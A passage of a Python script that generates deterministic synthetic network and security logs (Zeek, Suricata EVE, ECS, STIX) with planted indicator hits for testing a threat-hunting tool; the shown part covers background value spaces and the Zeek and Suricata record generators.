#!/usr/bin/env python3
"""Generate realistic logs with planted indicator hits, for testing `vigil hunt`.

    gen_logs.py [--seed S] [--records N] [--out DIR] [--check]

Writes, under DIR (default ./hunt-data), N records per format (default 22,000;
Zeek's share split over its six logs), each file in time order:

    zeek/conn.log zeek/dns.log zeek/http.log zeek/ssl.log zeek/x509.log zeek/files.log
    suricata/eve.json          Suricata EVE JSON (flow, dns v1 + v2, http, tls, fileinfo, alert)
    ecs/ecs.json               Elastic Common Schema (nested, dotted and mixed keys)
    stix/observed.jsonl        STIX 2.1: one bundle (an observed-data and its SCOs) per line
    custom/app.jsonl           an application gateway's JSON lines ...
    custom/mapping.json        ... and the mapping file that reads them (crates/hunt/MAPPING.md)
    indicators.json            a STIX 2.1 bundle: indicators, intrusion sets, malware, a
                               campaign, `indicates` relationships
    expected.jsonl             one line per planted hit: {"indicator", "file", "line",
                               "others": [{"file", "line"}], "related": [ids], "matched": [values]}
    controls.jsonl             what --check needs: every planted record that must NOT be
                               reported (and why), and the parts of multi-record indicators

Background ("clean") records take their values from spaces the indicators never use:
indicator addresses are in the documentation ranges 192.0.2.0/24, 198.51.100.0/24,
203.0.113.0/24 and 2001:db8::/32, background ones never; indicator domains end in
.top .xyz .biz .click .su, background ones in .com .net .org .io .edu .de .co.uk .gov;
hashes, serials and fingerprints are random 128-256 bit values.

--check builds, for every planted record and a sample of clean records, the STIX
observed-data that crates/hunt/MAPPING.md says the record becomes (an implementation
of the mapping independent of Vigil's) and runs the OASIS stix2-matcher on them
against the indicators: every single-record pattern over all of them at once, each
part of a multi-record pattern likewise, each whole multi-record pattern on its
planted group. It then applies the hunting rules of issue 5 (revoked and superseded
versions are not hunted; a record matches only before the indicator's valid_until)
and requires the result to be expected.jsonl exactly. Needs the repo's .venv
(stix2-patterns: tests/interop/requirements.txt; stix2-matcher: bench/pattern/requirements.txt);
the generator itself is stdlib only.

Deterministic: the same --seed and --records give byte-identical files. Planted
records do not depend on --records (only their line numbers do).
"""

import argparse
import hashlib
import json
import os
import random
import sys
import time
import uuid

# ------------------------------------------------------------------ time

T0 = 1709510400  # 2024-03-04T00:00:00Z, a Monday
SPAN_H = 48
US = 1_000_000
T0US = T0 * US
END_US = T0US + SPAN_H * 3600 * US
SURICATA_OFFSET_S = 3600  # the sensor writes local time, +0100
VALID_UNTIL_US = T0US + 30 * 3600 * US  # valid_until of the "expires" indicators
DEFAULT_VALID_FROM = "2024-02-12T09:00:00.000Z"
FUTURE_VALID_FROM = "2024-05-20T00:00:00.000Z"  # after every record: retro-hunting
STIX_NS = uuid.UUID("00abedb4-aa42-466c-9c01-fed23315a9b7")


def iso(us, frac=3, offset_s=0, zone="Z"):
    s, u = divmod(us + offset_s * US, US)
    base = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(s))
    if frac == 6:
        return "%s.%06d%s" % (base, u, zone)
    if frac == 3:
        return "%s.%03d%s" % (base, u // 1000, zone)
    return base + zone


def eve_ts(us):
    return iso(us, 6, SURICATA_OFFSET_S, "+0100")


def zeek_ts(us):
    return round(us / US, 6)


# Office hours are busier: weights per hour of the day (UTC; the site is in CET).
HOUR_W = [2, 1, 1, 1, 1, 2, 4, 8, 12, 14, 14, 13, 11, 13, 14, 13, 11, 8, 6, 5, 4, 3, 3, 2]
HOUR_CUM = []
_acc = 0
for _w in HOUR_W:
    _acc += _w
    HOUR_CUM.append(_acc)


def bg_times(rng, n):
    """n sorted record times (µs) over the two days, denser in office hours."""
    out = []
    total = HOUR_CUM[-1]
    import bisect
    for _ in range(n):
        day = rng.randrange(SPAN_H // 24)
        h = bisect.bisect_right(HOUR_CUM, rng.randrange(total))
        out.append(T0US + ((day * 24 + h) * 3600) * US + rng.randrange(3600 * US))
    out.sort()
    return out


# ------------------------------------------------------------------ value spaces (background)

B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
EXT_PREFIXES = ["13.107", "20.190", "23.45", "34.117", "35.186", "52.96", "104.16", "104.244", "140.82",
                "142.250", "151.101", "157.240", "172.217", "185.199", "199.232", "216.58", "31.13", "91.198"]
EXT6_PREFIXES = ["2606:4700:", "2a00:1450:4001:", "2620:1ec:", "2a03:2880:f0", "2600:9000:2"]
DNS_SERVERS = ["10.10.0.53", "10.10.0.54"]
BG_TLDS = [".com", ".net", ".org", ".io", ".edu", ".de", ".co.uk", ".gov"]
BG_SLD = ["google", "microsoft", "office", "live", "github", "amazon", "cloudflare", "akamai", "apple",
          "zoom", "slack", "dropbox", "wikipedia", "ubuntu", "debian", "mozilla", "adobe", "salesforce",
          "okta", "atlassian", "bbc", "reuters", "nytimes", "northwind", "contoso", "fabrikam", "tailspin",
          "wingtiptoys", "adventure-works", "woodgrove", "litware", "proseware", "fourthcoffee", "lucerne",
          "margie-travel", "treyresearch", "cohowinery", "alpineskihouse", "graphicdesigninstitute"]
BG_HOSTS = ["www", "mail", "api", "cdn", "static", "login", "portal", "assets", "img", "update", "docs",
            "files", "news", "shop", "app", "auth", "sso", "vpn", "edge", "telemetry", "download", "outlook",
            "teams", "events", "media", "fonts", "analytics", "s3", "ocsp", "crl"]
BG_DOMAINS = sorted({h + "." + s + t for h in BG_HOSTS for s in BG_SLD for t in BG_TLDS[:4]}
                    | {s + t for s in BG_SLD for t in BG_TLDS})
BG_PATHS = ["/", "/index.html", "/favicon.ico", "/api/v1/status", "/api/v2/events", "/static/js/app.js",
            "/static/css/site.css", "/images/logo.png", "/news/world", "/search", "/login", "/oauth2/token",
            "/download/setup.msi", "/docs/guide.pdf", "/connecttest.txt", "/ncsi.txt", "/msdownload/update/v3/static/trustedr/en/authrootstl.cab",
            "/ubuntu/dists/jammy/InRelease", "/debian/pool/main/o/openssl/libssl3_3.0.11-1_amd64.deb",
            "/wp-json/wp/v2/posts", "/robots.txt", "/sitemap.xml", "/feeds/rss.xml", "/v1/metrics", "/health"]
BG_QUERIES = ["", "", "", "?q=budget+2024", "?page=2", "?id=%d", "?lang=en", "?v=%d", "?utm_source=newsletter"]
BG_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.59",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Microsoft-CryptoAPI/10.0", "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.71",
    "Microsoft NCSI", "curl/8.5.0", "Wget/1.21.2", "Debian APT-HTTP/1.3 (2.6.1)", "python-requests/2.31.0",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
]
BG_MIME = [("text/html", ".html"), ("application/javascript", ".js"), ("image/png", ".png"), ("image/jpeg", ".jpg"),
           ("application/pdf", ".pdf"), ("application/x-dosexec", ".exe"), ("application/zip", ".zip"),
           ("text/plain", ".txt"), ("application/vnd.ms-cab-compressed", ".cab"), ("application/json", ".json")]
FIRST = ["anna", "ben", "chloe", "david", "emma", "farid", "grace", "hugo", "ines", "jonas", "karin", "liam",
         "maria", "noah", "olga", "pedro", "quinn", "rosa", "samir", "tara", "ugo", "vera", "wei", "yara", "zoe"]
LAST = ["berger", "costa", "dubois", "evans", "fischer", "garcia", "hansen", "ivanova", "jensen", "kowalski",
        "larsen", "meyer", "novak", "olsen", "petrov", "quint", "rossi", "schmidt", "tanaka", "urban", "vogel"]
BG_USERS = sorted(f + "." + l for f in FIRST for l in LAST)
DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820"
BG_PROCS = [  # (name, directory, command line template)
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=%d'),
    ("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument https://intranet.contoso.com/'),
    ("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" '),
    ("svchost.exe", "C:\\Windows\\System32", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("svchost.exe", "C:\\Windows\\System32", "C:\\Windows\\System32\\svchost.exe -k NetworkService -p -s Dnscache"),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\ProgramData\\Intune\\scripts\\inventory_%d.ps1"'),
    ("cmd.exe", "C:\\Windows\\System32", 'C:\\Windows\\system32\\cmd.exe /c "ipconfig /all > %%TEMP%%\\net_%d.txt"'),
    ("rundll32.exe", "C:\\Windows\\System32", "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding"),
    ("Teams.exe", "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\current", '"C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=utility'),
    ("MsMpEng.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0", '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe"'),
    ("git.exe", "C:\\Program Files\\Git\\cmd", "git.exe fetch --prune origin"),
    ("python.exe", "C:\\Python312", "python.exe -m pip install --upgrade pip"),
]
JA3_STRINGS = [
    "771,4865-4866-4867-49195-49199-49196-49200-52393-52392-49171-49172-156-157-47-53,0-23-65281-10-11-35-16-5-13-18-51-45-43-27-17513-21,29-23-24,0",
    "771,49196-49195-49200-49199-159-158-49188-49187-49192-49191-49162-49161-49172-49171-157-156-61-60-53-47-10,0-10-11-13-35-23-65281,29-23-24,0",
    "771,4865-4867-4866-49195-49199-52393-52392-49196-49200-49162-49161-49171-49172-156-157-47-53,0-23-65281-10-11-35-16-5-34-51-43-13-45-28-21,29-23-24-25-256-257,0",
    "769,49162-49161-49172-49171-57-51-53-47-10,0-10-11-35,23-24,0",
]
JA3S_STRINGS = ["771,4865,51-43", "771,49199,65281-0-11-35-16", "771,4866,43-51", "771,49200,65281-11-35"]
CIPHERS13 = ["TLS_AES_128_GCM_SHA256", "TLS_AES_256_GCM_SHA384", "TLS_CHACHA20_POLY1305_SHA256"]
CIPHERS12 = ["TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384",
             "TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256"]
ISSUERS = [("CN=R3,O=Let's Encrypt,C=US", "C=US, O=Let's Encrypt, CN=R3"),
           ("CN=GTS CA 1C3,O=Google Trust Services LLC,C=US", "C=US, O=Google Trust Services LLC, CN=GTS CA 1C3"),
           ("CN=DigiCert TLS RSA SHA256 2020 CA1,O=DigiCert Inc,C=US", "C=US, O=DigiCert Inc, CN=DigiCert TLS RSA SHA256 2020 CA1"),
           ("CN=Microsoft Azure TLS Issuing CA 05,O=Microsoft Corporation,C=US", "C=US, O=Microsoft Corporation, CN=Microsoft Azure TLS Issuing CA 05")]
SIGNATURES = [(2013028, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2),
              (2014726, "ET POLICY Outdated Windows Flash Version IE", "Potential Corporate Privacy Violation", 3),
              (2027390, "ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", 2),
              (2210020, "SURICATA STREAM ESTABLISHED packet out of window", "Generic Protocol Command Decode", 3),
              (2221010, "SURICATA HTTP unable to match response to request", "Generic Protocol Command Decode", 3),
              (2019401, "ET POLICY Vulnerable Java Version 1.8.x Detected", "Potential Corporate Privacy Violation", 2)]


def stix_serial(s):
    """A certificate serial number as MAPPING.md writes it (the STIX 2.1 examples' form):
    lower-case hex bytes joined by colons, no leading zero bytes."""
    h = s.replace(":", "")
    if not h or any(c not in "0123456789abcdefABCDEF" for c in h):
        return s
    h = ("0" + h if len(h) % 2 else h).lower()
    while len(h) > 2 and h.startswith("00"):
        h = h[2:]
    return ":".join(h[k:k + 2] for k in range(0, len(h), 2))


def hexs(rng, nbytes):
    return "%0*x" % (nbytes * 2, rng.getrandbits(nbytes * 8))


def zeek_id(rng, prefix):
    return prefix + "".join(rng.choice(B62) for _ in range(17))


def rand_uuid(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def client_ip(rng):
    return "10.20.%d.%d" % (rng.randrange(1, 16), rng.randrange(2, 250))


def server_ip(rng):
    return "10.10.0.%d" % rng.randrange(10, 60)


def ext_ip(rng):
    return "%s.%d.%d" % (rng.choice(EXT_PREFIXES), rng.randrange(256), rng.randrange(1, 255))


def ext_ip6(rng):
    return "%s%x::%x" % (rng.choice(EXT6_PREFIXES), rng.randrange(1, 0xffff), rng.randrange(1, 0xffff))


def client_ip6(rng):
    return "fd12:3456:789a:1:%x:%x:%x:%x" % tuple(rng.randrange(1, 0xffff) for _ in range(4))


def bg_domain(rng):
    return rng.choice(BG_DOMAINS)


def bg_uri(rng):
    q = rng.choice(BG_QUERIES)
    if "%d" in q:
        q = q % rng.randrange(1, 99999)
    return rng.choice(BG_PATHS) + q


def eph(rng):
    return rng.randrange(49152, 65535)


def community_id(rng):
    return "1:" + hashlib.sha1(rng.getrandbits(64).to_bytes(8, "big")).digest()[:20].hex()[:27] + "="


def md5hex(s):
    return hashlib.md5(s.encode()).hexdigest()


# ------------------------------------------------------------------ Zeek

def zeek_tcp_state(rng, proto):
    """conn_state, history for a connection (as Zeek writes them)."""
    if proto == "udp":
        return rng.choice([("SF", "Dd"), ("SF", "Dd"), ("S0", "D"), ("SHR", "^d")])
    if proto == "icmp":
        return "OTH", "-"
    r = rng.random()
    if r < 0.72:
        return "SF", rng.choice(["ShADadFf", "ShADadfF", "ShADdaFf", "ShAdDaFf"])
    if r < 0.82:
        return "S0", "S"
    if r < 0.88:
        return "REJ", "Sr"
    if r < 0.94:
        return "RSTO", "ShADadR"
    return "S1", "ShADad"


def zeek_conn(rng, us, orig_h=None, orig_p=None, resp_h=None, resp_p=None, proto=None, service=None,
              orig_bytes=None, resp_bytes=None, state=None):
    if resp_h is None:
        r = rng.random()
        if r < 0.30:
            proto, resp_h, resp_p, service = "udp", rng.choice(DNS_SERVERS), 53, "dns"
        elif r < 0.62:
            proto, resp_h, resp_p, service = "tcp", ext_ip(rng), 443, "ssl"
        elif r < 0.72:
            proto, resp_h, resp_p, service = "tcp", ext_ip(rng), 80, "http"
        elif r < 0.80:
            proto, resp_h, resp_p, service = "tcp", server_ip(rng), 445, "smb,gssapi"
        elif r < 0.85:
            proto, resp_h, resp_p, service = "tcp", server_ip(rng), 88, "krb_tcp"
        elif r < 0.89:
            proto, resp_h, resp_p, service = "tcp", server_ip(rng), 389, "ldap_tcp"
        elif r < 0.92:
            proto, resp_h, resp_p, service = "udp", server_ip(rng), 123, "ntp"
        elif r < 0.94:
            proto, resp_h, resp_p, service = "icmp", ext_ip(rng), 0, None
        elif r < 0.97:
            proto, resp_h, resp_p, service = "tcp", ext_ip6(rng), 443, "ssl"
        else:
            proto, resp_h, resp_p, service = "tcp", server_ip(rng), 3389, "rdp"
    proto = proto or "tcp"
    if orig_h is None:
        orig_h = client_ip6(rng) if ":" in resp_h else client_ip(rng)
    if orig_p is None:
        orig_p = 8 if proto == "icmp" else eph(rng)
    if state is None:
        state, history = zeek_tcp_state(rng, proto)
    else:
        history = {"SF": "ShADadFf", "S0": "S", "REJ": "Sr"}.get(state, "ShADad")
    rec = {"ts": zeek_ts(us), "uid": zeek_id(rng, "C"), "id.orig_h": orig_h, "id.orig_p": orig_p,
           "id.resp_h": resp_h, "id.resp_p": resp_p, "proto": proto}
    if service and state in ("SF", "RSTO", "S1", "SHR"):
        rec["service"] = service
    if state != "S0" or rng.random() < 0.5:
        rec["duration"] = round(rng.expovariate(1 / 8.0) if proto == "tcp" else rng.random() * 0.2, 6)
        small = proto != "tcp"
        ob = orig_bytes if orig_bytes is not None else (0 if state in ("S0", "REJ") else
                                                          rng.randrange(28, 90) if small else int(rng.expovariate(1 / 1500.0)))
        rb = resp_bytes if resp_bytes is not None else (0 if state in ("S0", "REJ") else
                                                          rng.randrange(44, 480) if small else int(rng.expovariate(1 / 40000.0)))
        rec["orig_bytes"], rec["resp_bytes"] = ob, rb
    rec["conn_state"] = state
    rec["local_orig"] = orig_h.startswith(("10.", "fd12:"))
    rec["local_resp"] = resp_h.startswith(("10.", "fd12:"))
    rec["missed_bytes"] = 0
    rec["history"] = history
    ob, rb = rec.get("orig_bytes", 0), rec.get("resp_bytes", 0)
    op = max(1, ob // 1200 + rng.randrange(1, 6)) if state != "REJ" else 1
    rp = (rb // 1400 + rng.randrange(1, 6)) if state not in ("S0", "REJ") else (1 if state == "REJ" else 0)
    hdr = 40 if ":" not in resp_h else 60
    rec.update({"orig_pkts": op, "orig_ip_bytes": ob + op * hdr, "resp_pkts": rp, "resp_ip_bytes": rb + rp * hdr})
    rec["ip_proto"] = {"tcp": 6, "udp": 17, "icmp": 1}[proto]
    return rec


def zeek_dns(rng, us, query=None, answers=None, qtype=None, orig_h=None, rcode=0):
    orig_h = orig_h or client_ip(rng)
    rec = {"ts": zeek_ts(us), "uid": zeek_id(rng, "C"), "id.orig_h": orig_h, "id.orig_p": eph(rng),
           "id.resp_h": rng.choice(DNS_SERVERS), "id.resp_p": 53, "proto": "udp",
           "trans_id": rng.randrange(65536)}
    if query is None:
        r = rng.random()
        if r < 0.08:
            ip = client_ip(rng).split(".")
            query, qtype, answers = ".".join(reversed(ip)) + ".in-addr.arpa", "PTR", ["host-%s.corp.contoso.com" % ip[3]]
        elif r < 0.12:
            query, rcode, answers = "%s.%s" % (hexs(rng, 4), bg_domain(rng)), 3, []
        else:
            query = bg_domain(rng)
            if rng.random() < 0.25:
                qtype, answers = "AAAA", [ext_ip6(rng)]
            else:
                answers = ([("cdn-%d." % rng.randrange(9)) + bg_domain(rng)] if rng.random() < 0.3 else []) + \
                    [ext_ip(rng) for _ in range(rng.randrange(1, 4))]
    qtype = qtype or "A"
    rec["rtt"] = round(rng.uniform(0.0004, 0.09), 6)
    rec["query"] = query
    rec["qclass"], rec["qclass_name"] = 1, "C_INTERNET"
    rec["qtype"], rec["qtype_name"] = {"A": 1, "AAAA": 28, "PTR": 12, "TXT": 16}[qtype], qtype
    rec["rcode"], rec["rcode_name"] = rcode, {0: "NOERROR", 3: "NXDOMAIN", 2: "SERVFAIL"}[rcode]
    rec.update({"AA": False, "TC": False, "RD": True, "RA": True, "Z": 0})
    if answers:
        rec["answers"] = answers
        rec["TTLs"] = [float(rng.choice([30, 60, 300, 3600, 86400])) for _ in answers]
    rec["rejected"] = False
    return rec


def zeek_http(rng, us, host=None, uri=None, resp_p=80, resp_h=None, method=None, user_agent=None, mime=None):
    host = host or bg_domain(rng)
    uri = uri or bg_uri(rng)
    method = method or ("GET" if rng.random() < 0.9 else "POST")
    status = rng.choice([200, 200, 200, 200, 200, 304, 301, 302, 404])
    rec = {"ts": zeek_ts(us), "uid": zeek_id(rng, "C"), "id.orig_h": client_ip(rng), "id.orig_p": eph(rng),
           "id.resp_h": resp_h or ext_ip(rng), "id.resp_p": resp_p, "trans_depth": rng.randrange(1, 4),
           "method": method, "host": host, "uri": uri}
    if rng.random() < 0.4:
        rec["referrer"] = "http://%s/" % host
    rec["version"] = "1.1"
    rec["user_agent"] = user_agent or rng.choice(BG_UAS)
    rec["request_body_len"] = rng.randrange(200, 4000) if method == "POST" else 0
    body = rng.randrange(100, 900000) if status == 200 else 0
    rec["response_body_len"] = body
    rec["status_code"] = status
    rec["status_msg"] = {200: "OK", 304: "Not Modified", 301: "Moved Permanently", 302: "Found", 404: "Not Found"}[status]
    rec["tags"] = []
    if body:
        m = mime or rng.choice(BG_MIME)[0]
        rec["resp_fuids"] = [zeek_id(rng, "F")]
        rec["resp_mime_types"] = [m]
    return rec


def zeek_ssl(rng, us, server_name=None, resp_h=None, resp_p=443):
    v13 = rng.random() < 0.6
    rec = {"ts": zeek_ts(us), "uid": zeek_id(rng, "C"), "id.orig_h": client_ip(rng), "id.orig_p": eph(rng),
           "id.resp_h": resp_h or ext_ip(rng), "id.resp_p": resp_p,
           "version": "TLSv13" if v13 else "TLSv12",
           "cipher": rng.choice(CIPHERS13 if v13 else CIPHERS12), "curve": "x25519",
           "server_name": server_name or bg_domain(rng), "resumed": rng.random() < 0.1,
           "next_protocol": rng.choice(["h2", "http/1.1"]), "established": True,
           "ssl_history": "CsiI" if v13 else "CsxknGIi"}
    if not v13:
        rec["cert_chain_fps"] = [hexs(rng, 32) for _ in range(rng.randrange(2, 4))]
        rec["client_cert_chain_fps"] = []
        rec["sni_matches_cert"] = True
    j, js = rng.choice(JA3_STRINGS), rng.choice(JA3S_STRINGS)
    rec["ja3"], rec["ja3s"] = md5hex(j), md5hex(js)
    return rec


def zeek_x509(rng, us, fingerprint=None, serial=None, subject=None, issuer=None, san=None):
    cn = san[0] if san else bg_domain(rng)
    iss = issuer or rng.choice(ISSUERS)[0]
    nb = T0 - rng.randrange(5, 80) * 86400
    rec = {"ts": zeek_ts(us), "fingerprint": fingerprint or hexs(rng, 32),
           "certificate.version": 3, "certificate.serial": serial or hexs(rng, 16).upper(),
           "certificate.subject": subject or "CN=" + cn, "certificate.issuer": iss,
           "certificate.not_valid_before": float(nb), "certificate.not_valid_after": float(nb + 90 * 86400),
           "certificate.key_alg": "rsaEncryption", "certificate.sig_alg": "sha256WithRSAEncryption",
           "certificate.key_type": "rsa", "certificate.key_length": rng.choice([2048, 4096]),
           "certificate.exponent": "65537", "san.dns": san or [cn, "www." + cn],
           "basic_constraints.ca": False, "host_cert": True, "client_cert": False}
    return rec


def zeek_files(rng, us, md5=None, sha1=None, sha256=None, filename=None, mime=None, size=None):
    m, ext = (mime, "") if mime else rng.choice(BG_MIME)
    size = size if size is not None else rng.randrange(300, 3_000_000)
    rec = {"ts": zeek_ts(us), "fuid": zeek_id(rng, "F"), "uid": zeek_id(rng, "C"),
           "id.orig_h": client_ip(rng), "id.orig_p": eph(rng), "id.resp_h": ext_ip(rng), "id.resp_p": 80,
           "source": "HTTP", "depth": 0,
           "analyzers": ["MD5", "SHA1", "SHA256"] + (["PE"] if m == "application/x-dosexec" else []),
           "mime_type": m}
    if filename or rng.random() < 0.3:
        rec["filename"] = filename or ("document_%d%s" % (rng.randrange(1000), ext))
    rec.update({"duration": round(rng.random() * 2, 6), "local_orig": False, "is_orig": False,
                "seen_bytes": size, "total_bytes": size, "missing_bytes": 0, "overflow_bytes": 0,
                "timedout": False,
                "md5": md5 or hexs(rng, 16), "sha1": sha1 or hexs(rng, 20), "sha256": sha256 or hexs(rng, 32)})
    return rec


ZEEK_FILES = [("zeek/conn.log", 0.40, zeek_conn), ("zeek/dns.log", 0.30, zeek_dns), ("zeek/http.log", 0.12, zeek_http),
              ("zeek/ssl.log", 0.10, zeek_ssl), ("zeek/x509.log", 0.04, zeek_x509), ("zeek/files.log", 0.04, zeek_files)]


# ------------------------------------------------------------------ Suricata EVE

class Eve:
    """Suricata's per-file state: flow ids and pcap counters grow."""

    def __init__(self, rng):
        self.rng = rng
        self.pcap = 1000


def eve_base(rng, us, event_type, src, sport, dst, dport, proto="TCP", sensor=None):
    rec = {"timestamp": eve_ts(us), "flow_id": rng.getrandbits(51), "in_iface": "ens224",
           "event_type": event_type, "src_ip": src}
    if sport is not None:
        rec["src_port"] = sport
    rec["dest_ip"] = dst
    if dport is not None:
        rec["dest_port"] = dport
    rec["proto"] = proto
    rec["host"] = sensor or rng.choice(["ids-hq-1", "ids-hq-2"])
    return rec


def eve_flowpart(rng, us, toserver=None, toclient=None, state="closed", alerted=False):
    bts = toserver if toserver is not None else int(rng.expovariate(1 / 2000.0)) + 60
    btc = toclient if toclient is not None else int(rng.expovariate(1 / 50000.0)) + 60
    age = rng.randrange(0, 120)
    return {"pkts_toserver": bts // 1200 + 2, "pkts_toclient": btc // 1400 + 2, "bytes_toserver": bts,
            "bytes_toclient": btc, "start": eve_ts(us - age * US - rng.randrange(US)), "end": eve_ts(us - rng.randrange(US)),
            "age": age, "state": state, "reason": rng.choice(["timeout", "timeout", "shutdown"]), "alerted": alerted}


def eve_flow(rng, us, src=None, sport=None, dst=None, dport=None, proto="TCP", app_proto=None,
             toserver=None, toclient=None):
    if dst is None:
        r = rng.random()
        if r < 0.45:
            dst, dport, app_proto = ext_ip(rng), 443, "tls"
        elif r < 0.6:
            dst, dport, app_proto = ext_ip(rng), 80, "http"
        elif r < 0.8:
            dst, dport, proto, app_proto = rng.choice(DNS_SERVERS), 53, "UDP", "dns"
        elif r < 0.88:
            dst, dport, app_proto = server_ip(rng), 445, "smb"
        elif r < 0.93:
            dst, dport, app_proto = ext_ip(rng), rng.choice([8443, 5228, 3478]), "failed"
        elif r < 0.96:
            dst, dport, proto = ext_ip6(rng), 443, "TCP"
            app_proto = "tls"
        else:
            dst, dport, proto, app_proto = ext_ip(rng), None, "ICMP", None
    if src is None:
        src = client_ip6(rng) if ":" in dst else client_ip(rng)
    if sport is None and proto != "ICMP":
        sport = eph(rng)
    rec = eve_base(rng, us, "flow", src, sport, dst, dport, proto)
    if proto == "ICMP":
        rec["icmp_type"], rec["icmp_code"] = 8, 0
        rec["response_icmp_type"], rec["response_icmp_code"] = 0, 0
    if app_proto:
        rec["app_proto"] = app_proto
    rec["flow"] = eve_flowpart(rng, us, toserver, toclient)
    if proto == "TCP":
        rec["tcp"] = {"tcp_flags": "1b", "tcp_flags_ts": "1b", "tcp_flags_tc": "1b", "syn": True, "fin": True,
                      "psh": True, "ack": True, "state": "closed"}
    return rec


DNS_SENSORS = {1: "ids-hq-1", 2: "ids-hq-2", 3: "ids-hq-3"}


def eve_dns(rng, us, rrname=None, version=None, answers=None, rrtype="A", qtype_event=None, grouped=False):
    """A DNS event. version 1: one query event, or one answer event per answer;
    version 2: one answer event holding every answer ("detailed" answers list or "grouped");
    version 3 (Suricata 8): a request or a response event naming its queries in a `queries`
    list, a response written from the responder (src_ip is the DNS server)."""
    src = client_ip(rng)
    dst = rng.choice(DNS_SERVERS)
    sensor = DNS_SENSORS.get(version, "ids-hq-2")
    rec = eve_base(rng, us, "dns", src, eph(rng), dst, 53, "UDP", sensor)
    if rrname is None:
        rrname = bg_domain(rng)
        version = version or rng.choice([1, 2, 3])
        if qtype_event is None:
            qtype_event = "query" if rng.random() < 0.45 else "answer"
        if answers is None:
            if rng.random() < 0.2:
                rrtype, answers = "AAAA", [("AAAA", ext_ip6(rng))]
            else:
                answers = ([("CNAME", "cdn-%d." % rng.randrange(9) + bg_domain(rng))] if rng.random() < 0.3 else []) + \
                    [("A", ext_ip(rng)) for _ in range(rng.randrange(1, 3))]
        grouped = rng.random() < 0.3
    rec["host"] = DNS_SENSORS[version]
    txid = rng.randrange(65536)
    if version == 3:
        return eve_dns_v3(rng, rec, txid, rrname, rrtype, answers, qtype_event == "query", grouped)
    if qtype_event == "query":
        rec["dns"] = {"type": "query", "id": txid, "rrname": rrname, "rrtype": rrtype, "tx_id": 0, "opcode": 0}
        return rec
    flags = {"flags": "8180", "qr": True, "rd": True, "ra": True}
    if version == 1:
        # one answer event: the first answer (a caller plants the one it wants)
        t, data = answers[0] if answers else (rrtype, None)
        d = {"type": "answer", "id": txid}
        d.update(flags)
        d.update({"rrname": rrname, "rrtype": t})
        if data is not None:
            d.update({"ttl": rng.choice([60, 300, 3600]), "rdata": data})
        d["rcode"] = "NOERROR" if answers else "NXDOMAIN"
        rec["dns"] = d
        return rec
    d = {"version": 2, "type": "answer", "id": txid}
    d.update(flags)
    d.update({"opcode": 0, "rrname": rrname, "rrtype": rrtype, "rcode": "NOERROR" if answers else "NXDOMAIN"})
    eve_dns_answers(rng, d, rrname, answers, grouped)
    rec["dns"] = d
    return rec


def eve_dns_answers(rng, d, rrname, answers, grouped):
    """A v2/v3 response's answers: "detailed" (`answers`, a CNAME chain) or `grouped` by type."""
    if not answers:
        return
    if grouped:
        g = {}
        for t, data in answers:
            g.setdefault(t, []).append(data)
        d["grouped"] = g
    else:
        owner, lst = rrname, []
        for t, data in answers:
            lst.append({"rrname": owner, "rrtype": t, "ttl": rng.choice([60, 300, 3600]), "rdata": data})
            if t == "CNAME":
                owner = data
        d["answers"] = lst


def eve_dns_v3(rng, rec, txid, rrname, rrtype, answers, request, grouped):
    queries = [{"rrname": rrname, "rrtype": rrtype}]
    if request:
        rec["dns"] = {"version": 3, "type": "request", "tx_id": 0, "id": txid, "flags": "100", "rd": True,
                      "opcode": 0, "rcode": "NOERROR", "queries": queries}
        return rec
    for a, b in (("src_ip", "dest_ip"), ("src_port", "dest_port")):
        rec[a], rec[b] = rec[b], rec[a]
    d = {"version": 3, "type": "response", "tx_id": 1, "id": txid, "flags": "8180", "qr": True, "rd": True,
         "ra": True, "opcode": 0, "rcode": "NOERROR" if answers else "NXDOMAIN", "queries": queries}
    eve_dns_answers(rng, d, rrname, answers, grouped)
    rec["dns"] = d
    return rec


def eve_http_part(rng, hostname, url, ua, method, port, status=None, ctype=None, length=None):
    h = {"hostname": hostname}
